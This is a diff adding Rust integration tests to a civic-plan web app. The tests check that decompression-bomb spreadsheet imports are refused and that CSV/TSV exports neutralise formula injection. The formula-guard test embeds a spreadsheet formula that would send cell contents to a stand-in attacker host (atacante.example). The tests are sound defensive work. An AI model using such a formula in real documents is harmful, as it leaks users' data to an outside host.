@@ -13,6 +13,9 @@ use participa_web::AppState;
 use tower::ServiceExt;
 
 const SEED: &[u8] = include_bytes!("../../../seed/plan-participacion-ciudadana-2025.txt");
+
+#[path = "../../formats/tests/bombs/mod.rs"]
+mod bombs;
 const PASSWORD: &str = "una clave de prueba larga";
 /// The longest text any field takes (`participa_web::form::LONG_TEXT`).
 const LONG_LIMIT: usize = participa_web::form::LONG_TEXT;
@@ -1118,6 +1121,151 @@ on_both_backends! {
     hostile_text_comes_back_escaped => super::hostile_text_comes_back_escaped;
     rate_limits_behind_a_trusted_proxy => super::rate_limits_behind_a_trusted_proxy;
     the_data_policy_is_linked_and_kept_with_consent => super::the_data_policy_is_linked_and_kept_with_consent;
+    import_bombs_are_refused_on_a_short_page_and_write_nothing => super::import_bombs_are_refused_on_a_short_page_and_write_nothing;
+    open_data_never_starts_a_cell_like_a_formula_and_the_tsv_imports_back => super::open_data_never_starts_a_cell_like_a_formula_and_the_tsv_imports_back;
+}
+
+/// Issue 13, item 6: the review's bombs (a title of 150 MB, millions of tiny rows) and a
+/// file with thousands of bad rows are refused on a page of a few KB; nothing is written,
+/// and the staff pages that list plans stay small.
+async fn import_bombs_are_refused_on_a_short_page_and_write_nothing(db: TestDatabase) {
+    use bombs::Workbook;
+    let app = TestApp::new(db).await;
+    let admin = app.login("admin").await;
+    let before = app.get("/admin/planes", Some(&admin)).await.body.len();
+    let import = |name: &'static str, bytes: Vec<u8>| {
+        let admin = admin.clone();
+        let app = &app;
+        async move {
+            app.post_files(
+                "/admin/planes/importar",
+                Some(&admin),
+                &[],
+                &[("archivo", name, &bytes)],
+            )
+            .await
+        }
+    };
+    let title = Workbook {
+        title_padding: 150_000_000,
+        ..Workbook::seed()
+    }
+    .xlsx();
+    let rows = Workbook {
+        extra_rows: 3_000_000,
+        ..Workbook::seed()
+    }
+    .xlsx();
+    for (name, bytes, says) in [
+        ("titulo.xlsx", title, "la parte «xl/sharedStrings.xml» del libro ocupa 144 MB al descomprimirla, y se leen hasta 8 MB"),
+        ("filas.xlsx", rows, "la parte «xl/worksheets/sheet1.xml» del libro ocupa 75 MB al descomprimirla, y se leen hasta 16 MB"),
+    ] {
+        let r = import(name, bytes).await;
+        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}: {:.500}", r.body);
+        assert!(
+            r.body.contains(&format!("No se importó nada de «{name}»: 1 error")),
+            "{name}: {:.3000}",
+            r.body
+        );
+        assert!(r.body.contains(says), "{name}: {:.3000}", r.body);
+        assert!(r.body.len() < 20_000, "{name}: a page of {} bytes", r.body.len());
+    }
+    // Thousands of bad rows: the first 100 listed, the rest counted.
+    let r = import("malo.txt", bombs::seed_text_with(4_000, "dato\tsuelto")).await;
+    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
+    assert!(
+        r.body
+            .contains("No se importó nada de «malo.txt»: 4\u{a0}000 errores"),
+        "{:.3000}",
+        r.body
+    );
+    assert_eq!(r.body.matches("<li>").count() - before_items(&r.body), 100);
+    assert!(
+        r.body.contains("y 3\u{a0}900 errores más"),
+        "{:.3000}",
+        r.body
+    );
+    assert!(r.body.len() < 60_000, "a page of {} bytes", r.body.len());
+    // Nothing was written, and the list of plans is as it was.
+    assert_eq!(app.store.plans().await.unwrap().len(), 1);
+    let after = app.get("/admin/planes", Some(&admin)).await.body.len();
+    assert_eq!(after, before);
+}
+
+/// The `<li>` of a page outside its error summary (the navigation's).
+fn before_items(page: &str) -> usize {
+    let summary = page.find("id=\"errores\"").unwrap_or(page.len());
+    let end = page[summary..]
+        .find("</ul>")
+        .map_or(page.len(), |i| summary + i);
+    page.matches("<li>").count() - page[summary..end].matches("<li>").count()
+}
+
+/// Issue 13, item 8: the published plan's CSV and TSV never start a cell the way a
+/// spreadsheet formula starts, the XLSX holds such texts as strings, and the TSV imports
+/// back to the same plan.
+async fn open_data_never_starts_a_cell_like_a_formula_and_the_tsv_imports_back(db: TestDatabase) {
+    use participa_formats::formula_guard::TRIGGERS;
+    let app = TestApp::new(db).await;
+    let admin = app.login("admin").await;
+    let description = "=HYPERLINK(\"http://atacante.example/?d=\"&A1;\"Ver\")";
+    let r = app
+        .post(
+            "/admin/planes/1/actividades/13/editar",
+            Some(&admin),
+            &[
+                ("descripcion", description),
+                ("inicio", "2025-02-05"),
+                ("fin", "2025-11-28"),
+                ("responsables", "ARCOM"),
+                ("entregable", "-3 informes; @SUM(1+1)"),
+            ],
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::SEE_OTHER, "{:.2000}", r.body);
+    app.to_status(&[
+        Transition::Consolidate,
+        Transition::Review,
+        Transition::Approve,
+        Transition::Publish,
+    ])
+    .await;
+    let published = app
+        .store
+        .published_plan(PlanId(1))
+        .await
+        .unwrap()
+        .unwrap()
+        .plan;
+    let edited = published
+        .activities
+        .iter()
+        .find(|a| a.number.get() == 13)
+        .unwrap();
+    assert_eq!(edited.description, description);
+    for (file, delimiter) in [("datos.csv", b','), ("datos.tsv", b'\t')] {
+        let r = app.get(&format!("/planes/1/{file}"), None).await;
+        assert_eq!(r.status, StatusCode::OK, "{file}");
+        let mut reader = csv::ReaderBuilder::new()
+            .delimiter(delimiter)
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(r.bytes.as_slice());
+        let mut found = false;
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                assert!(!cell.starts_with(TRIGGERS), "{file}: {cell:?}");
+                found |= cell == format!("'{description}") || cell.ends_with(description);
+            }
+        }
+        assert!(found, "{file}: the description is missing");
+    }
+    let tsv = app.get("/planes/1/datos.tsv", None).await.bytes;
+    let back = import_plan("datos.tsv", &tsv, &ReadOptions::default()).unwrap();
+    assert_eq!(back, published);
+    let xlsx = app.get("/planes/1/datos.xlsx", None).await.bytes;
+    let back = import_plan("datos.xlsx", &xlsx, &ReadOptions::default()).unwrap();
+    assert_eq!(back, published);
 }
 
 /// A sign-in POST from client address `ip`, with the cookies given (the remembered
